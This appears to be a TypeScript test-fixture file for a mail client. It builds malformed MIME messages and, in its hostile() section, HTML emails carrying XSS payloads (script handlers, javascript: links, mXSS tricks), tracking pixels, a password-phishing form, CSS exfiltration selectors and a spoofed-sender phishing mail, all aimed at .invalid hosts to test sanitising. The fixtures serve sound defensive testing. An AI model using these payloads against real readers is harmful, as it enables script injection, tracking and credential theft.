import { ALICE, compose, raw, type DemoMessage } from '../message-builder.ts'
import { html, plain } from '../mime-builder.ts'

/** Messages that are wrong in ways that messages really are: each must still be shown, and say what can be read. */
export function broken(): readonly DemoMessage[] {
  return [
    noBoundaryEnd(), boundaryNeverComes(), noBoundaryNamed(), badBase64(), lyingCharset(), unknownCharset(), oddHeaders(), unclosedNest(),
    noSubject(), noHeaders(), emptyBody(), veryLongSubject(), longLine(), undated(),
  ]
}

const head = (subject: string, id: string, date: string): string => `From: Old Machine <machine@scanner.example>\nTo: ${ALICE}\nSubject: ${subject}\nDate: ${date}\nMessage-ID: <${id}@scanner.example>\nMIME-Version: 1.0\n`

function noBoundaryEnd(): DemoMessage {
  return raw('2026-10-06 04:00', `${head('Cut off in the middle', 'broken-1', 'Tue, 6 Oct 2026 04:00:00 +0000')}Content-Type: multipart/mixed; boundary="cut"

--cut
Content-Type: text/plain; charset=utf-8

This part is complete, and the next one would be too, had the line held.

--cut
Content-Type: application/pdf; name="half.pdf"
Content-Disposition: attachment; filename="half.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJeLjz9MKMSAwIG9iago8PCAvVHlwZSAvQ2F0YWxvZyA`, ['\\Seen'])
}

function boundaryNeverComes(): DemoMessage {
  return raw('2026-10-06 04:10', `${head('The boundary that never comes', 'broken-2', 'Tue, 6 Oct 2026 04:10:00 +0000')}Content-Type: multipart/alternative; boundary="=_never"

All of this stands in front of a boundary that does not exist. It is the
only text there is, so it is what should be shown.
`, ['\\Seen'])
}

function noBoundaryNamed(): DemoMessage {
  return raw('2026-10-06 04:20', `${head('multipart without a boundary', 'broken-3', 'Tue, 6 Oct 2026 04:20:00 +0000')}Content-Type: multipart/mixed

--whatever
Content-Type: text/plain

The sender forgot to say what the boundary is.
--whatever--
`, ['\\Seen'])
}

function badBase64(): DemoMessage {
  return raw('2026-10-06 04:30', `${head('base64 with dirt in it', 'broken-4', 'Tue, 6 Oct 2026 04:30:00 +0000')}Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

VGhpcyB0ZXh0IHdhcyBlbmNvZGVk!!! IGluIGJhc2U2NCwgYW5kIHRoZW4gc29tZWJvZHkg
c3BpbHQg***Y29mZmVlIG92ZXIg
aXQuIE1vc3Qgb2YgaXQgY2FuIHN0aWxsIGJlIHJlYWQ=Lg==
-- this line is not base64 at all --
`, ['\\Seen'])
}

function lyingCharset(): DemoMessage {
  return raw('2026-10-06 04:40', `${head('It says utf-8 and is not', 'broken-5', 'Tue, 6 Oct 2026 04:40:00 +0000')}Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Caf\xe9 cr\xe8me, na\xefve, 20 \x80, \x93quoted\x94: these are windows-1252 octets.
`, ['\\Seen'])
}

function unknownCharset(): DemoMessage {
  return raw('2026-10-06 04:50', `${head('=?x-martian-7?Q?Gr=FCezi_from_a_charset_nobody_knows?=', 'broken-6', 'Tue, 6 Oct 2026 04:50:00 +0000')}Content-Type: text/plain; charset=x-martian-7
Content-Transfer-Encoding: quoted-printable

The charset is unknown, but most of the text is plain ASCII=2E
And there is a stray equals sign = here, and a broken code =G1.
`, ['\\Seen'])
}

function oddHeaders(): DemoMessage {
  return raw('2026-10-06 05:00', `From machine@scanner.example Tue Oct  6 05:00:00 2026
From: "Quote never closed <machine@scanner.example>
To: undisclosed recipients
this line is no header at all
Subject : a blank before the colon,
\tand a folded line
Subject: a second subject
Date: the day before yesterday
Message-ID: not an id
Content-Type: text/plain charset=utf-8
Content-Transfer-Encoding: 8-bit-or-so

None of the header lines is right, and yet somebody wrote: hello.
`, ['\\Seen'])
}

function unclosedNest(): DemoMessage {
  return raw('2026-10-06 05:10', `${head('A nest that closes in the wrong order', 'broken-8', 'Tue, 6 Oct 2026 05:10:00 +0000')}Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: multipart/alternative; boundary="inner"

--inner
Content-Type: text/plain

The inner multipart is closed by the outer one.
--outer
Content-Type: text/plain; name="note.txt"
Content-Disposition: attachment; filename=note.txt; filename=again.txt

An attachment with two names.
--inner--
--outer--
`, ['\\Seen'])
}

function noSubject(): DemoMessage {
  const { flags, internalDate, content } = compose({ from: 'Somebody in a hurry <hurry@harbour-office.example>', to: ALICE, subject: 'X', date: '2026-10-20 17:59', id: 'hurry-1', flags: ['\\Seen'] }, plain('no time for a subject, the ferry is leaving\n'))
  const octets = Buffer.from(content)
  return { flags, internalDate, content: Buffer.from(octets.toString('latin1').replace('Subject: X\r\n', ''), 'latin1') }
}

function noHeaders(): DemoMessage {
  return raw('2026-10-21 04:04', '\nThis message has no header at all: not who sent it, nor when, nor about what.\nIt begins with a blank line and says only this.\n', [])
}

function emptyBody(): DemoMessage {
  return compose({ from: 'Door bell <bell@lantern-house.example>', to: ALICE, subject: 'Somebody is at the door (that is all)', date: '2026-10-24 07:15', id: 'bell-1', flags: ['\\Seen'] }, { headers: ['Content-Type: text/plain; charset=us-ascii'], body: Buffer.alloc(0) })
}

function veryLongSubject(): DemoMessage {
  const subject = `A subject that does not know when to stop: ${'on and on, past the pier, past the lamp, past the bell buoy, '.repeat(14)}and home`
  return compose({ from: 'Grandfather <grandfather@archers.example>', to: ALICE, subject, date: '2026-10-27 20:20', id: 'grandfather-1', flags: ['\\Seen'] }, plain('I have put everything into the subject, so that I do not forget it.\n'))
}

function longLine(): DemoMessage {
  const words = 'all in one line because the machine that wrote it has never heard of another '.repeat(120)
  return raw('2026-10-28 03:00', `${head('One line of nine thousand characters', 'broken-9', 'Wed, 28 Oct 2026 03:00:00 +0000')}Content-Type: text/plain; charset=us-ascii

${words}
${'=-'.repeat(500)}
`, ['\\Seen'])
}

function undated(): DemoMessage {
  return raw('2026-10-29 03:00', `From: Clock <clock@town-hall.example>\nTo: ${ALICE}\nSubject: A message without a date\nMessage-ID: <undated-1@town-hall.example>\nMIME-Version: 1.0\nContent-Type: text/plain\n\nThe clock in the tower has stopped, so we cannot say when this was sent.\n`, ['\\Seen'])
}

/** HTML that would do harm if anything in it ever ran or fetched; every host in it ends in .invalid, so that even then nothing could. */
export function hostile(): readonly DemoMessage[] {
  const from = 'Prize Office <winner@prizes.invalid>'
  return [
    compose({ from, to: ALICE, subject: 'Your prize (scripts)', date: '2026-11-07 02:00', id: 'hostile-1', flags: [] }, html(SCRIPTS)),
    compose({ from, to: ALICE, subject: 'Please sign in again (forms and refresh)', date: '2026-11-07 02:10', id: 'hostile-2', flags: [] }, html(FORMS)),
    compose({ from, to: ALICE, subject: 'A drawing for you (SVG, MathML and frames)', date: '2026-11-07 02:20', id: 'hostile-3', flags: [] }, html(DRAWINGS)),
    compose({ from, to: ALICE, subject: 'Over the whole page (CSS)', date: '2026-11-07 02:30', id: 'hostile-4', flags: [] }, html(STYLES)),
    compose({ from: '"Ada Minster <admin@example.test>" <ada@example-test.invalid>', to: ALICE, subject: 'Your password expires today', date: '2026-11-07 08:30', id: 'hostile-5', flags: [] }, html(DECEPTION)),
  ]
}

const SCRIPTS = `<html><head><title>Prize</title><script>window.top.hostile = 'script in the head'; document.title = 'HOSTILE'</script>
<script src="https://collect.invalid/a.js"></script></head>
<body onload="window.top.hostile = 'onload'" background="https://collect.invalid/background.png">
<p>You have won. This text may be shown; nothing else may happen.</p>
<img src="x" onerror="window.top.hostile = 'onerror'"><img src="https://collect.invalid/pixel.gif?reader=alice" width="1" height="1">
<a href="javascript:window.top.hostile='link'">a link that is a script</a>
<a href="  jAvAsCrIpT&#58;window.top.hostile='link'">another</a> <a href="data:text/html,<script>top.hostile='data'</script>">and another</a>
<a href="vbscript:MsgBox(1)">and one from long ago</a>
<details open ontoggle="window.top.hostile = 'ontoggle'"><summary>details</summary></details>
<input autofocus onfocus="window.top.hostile = 'onfocus'"><noscript><p title="</noscript><img src=x onerror=top.hostile='noscript'>"></noscript>
<p>The end of the text.</p></body></html>`

const FORMS = `<html><head><meta http-equiv="refresh" content="0; url=https://collect.invalid/refresh"><base href="https://collect.invalid/">
<link rel="stylesheet" href="https://collect.invalid/a.css"><link rel="prefetch" href="https://collect.invalid/b"><link rel="dns-prefetch" href="//reader-alice.collect.invalid"></head>
<body><p>Your session has expired. Please sign in again.</p>
<form action="https://collect.invalid/post" method="post"><label>User <input name="user" value="alice"></label> <label>Password <input type="password" name="password"></label>
<button formaction="https://collect.invalid/button">Sign in</button><input type="image" src="https://collect.invalid/i.png" alt="Sign in"></form>
<video autoplay poster="https://collect.invalid/poster.png"><source src="https://collect.invalid/v.mp4"></video><audio autoplay src="https://collect.invalid/a.mp3"></audio>
<img srcset="https://collect.invalid/1x.png 1x, https://collect.invalid/2x.png 2x" alt="a picture in sets"><picture><source srcset="https://collect.invalid/p.webp"><img alt="a picture" src="cid:nothing"></picture>
<a href="/api/session/end">sign out</a> <a href="relative/path">relative</a> <a href="mailto:bob@example.test?subject=hello&amp;body=hi">write to Bob</a></body></html>`

const DRAWINGS = `<html><body><p>A drawing for you:</p>
<svg width="100" height="60" xmlns="http://www.w3.org/2000/svg"><script>top.hostile = 'svg'</script><rect width="100" height="60" fill="teal"/><image href="https://collect.invalid/svg.png"/><use href="https://collect.invalid/s.svg#a"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="top.hostile='foreign'">in a drawing</body></foreignObject><animate attributeName="href" values="javascript:top.hostile=1"/><a href="javascript:top.hostile='svg link'"><text y="40">press</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=top.hostile='mxss'&gt;"></table></mtext></math>
<iframe src="https://collect.invalid/frame"></iframe><iframe srcdoc="<script>top.hostile='srcdoc'</script>"></iframe><object data="https://collect.invalid/o.swf"></object><embed src="https://collect.invalid/e.swf">
<template><img src=x onerror="top.hostile='template'"></template><xmp><p>an old element</p></xmp><plaintext><p>all that follows is text`

const STYLES = `<html><head><style>
@import url("https://collect.invalid/import.css"); @font-face { font-family: spy; src: url(https://collect.invalid/spy.woff2) }
body { font-family: spy; background: url('https://collect.invalid/body.png') } :root { --x: url(https://collect.invalid/var.png) }
.cover { position: fixed; inset: 0; z-index: 2147483647; background: rgba(200, 0, 0, .3) } input[value^="a"] { background: url(https://collect.invalid/a) }
* { content: url(https://collect.invalid/star) } p::after { content: "\\201C styled \\201D" } @media print { p { display: none } }
</style></head><body><div class="cover" style="position:fixed;top:0;left:0;width:9999px;height:9999px">This would cover the page.</div>
<p style="margin-top:-4000px">This would climb out of its frame.</p><p style="background:url(https://collect.invalid/inline.png);width:expression(top.hostile=1);behavior:url(x.htc);-moz-binding:url(x.xml)">Inline tricks.</p>
<p style="color:white;background:white">White on white.</p><p style="font-size:0">Nothing to see.</p><p style="animation:spin 1ms infinite">Spinning.</p>
<div style="width:100000px;height:100000px">Very large.</div><p id="location">An element named like a property.</p><form name="body"></form><p>The end of the text.</p></body></html>`

const DECEPTION = `<html><body><p>Dear Alice Archer,</p><p>your password expires <b>today</b>. Keep it by signing in here:</p>
<p><a href="https://example-test.invalid/sign-in?user=alice">https://example.test/sign-in</a></p>
<p>Or scan the code:<br><img src="https://example-test.invalid/code.png" alt="code"></p><p>Ada Minster<br>Administration</p></body></html>`
